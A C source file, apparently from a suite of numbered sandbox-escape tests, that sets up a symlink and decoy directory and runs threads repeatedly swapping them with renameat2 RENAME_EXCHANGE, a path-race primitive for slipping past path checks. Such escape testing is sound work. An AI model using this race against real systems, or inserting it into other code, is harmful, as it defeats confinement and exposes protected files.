/* esc-swap.c - the directory-component swap of e0202, e0205, e0207 and
 * e0208 (see escape.h). */
#include <fcntl.h>
#include <libgen.h>
#include <limits.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "escape.h"

void esc_swap_make(struct esc_swap *w, const char *name, const char *target, const char *decoy,
		   char *inside, size_t size)
{
	char dir[PATH_MAX], base[PATH_MAX];
	memset(w, 0, sizeof *w);
	snprintf(w->d, sizeof w->d, "%s-d", name);
	snprintf(w->s, sizeof w->s, "%s-s", name);
	/* dirname and basename may change what they are given: two copies. */
	snprintf(dir, sizeof dir, "%s", target);
	snprintf(base, sizeof base, "%s", target);
	snprintf(inside, size, "%s/%s", w->d, basename(base));
	mkdir(w->d, 0755);
	unlink(w->s);
	if (symlink(dirname(dir), w->s) < 0)
		esc_die("symlink");
	if (!decoy) {
		unlink(inside);	/* left by an earlier run */
		return;
	}
	FILE *f = fopen(inside, "w");
	if (!f)
		esc_die(inside);
	fputs(decoy, f);
	fclose(f);
}

static void *swapper(void *swap)
{
	struct esc_swap *w = swap;
	while (!w->stop)
		syscall(SYS_renameat2, AT_FDCWD, w->d, AT_FDCWD, w->s, RENAME_EXCHANGE);
	return NULL;
}

void esc_swap_start(struct esc_swap *w, int threads)
{
	if (threads > ESC_SWAP_THREADS)
		threads = ESC_SWAP_THREADS;
	w->stop = 0;
	for (w->threads = 0; w->threads < threads; w->threads++)
		if (pthread_create(&w->t[w->threads], NULL, swapper, w) != 0)
			esc_die("pthread_create");
}

void esc_swap_stop(struct esc_swap *w)
{
	w->stop = 1;
	for (int i = 0; i < w->threads; i++)
		pthread_join(w->t[i], NULL);
	w->threads = 0;
}
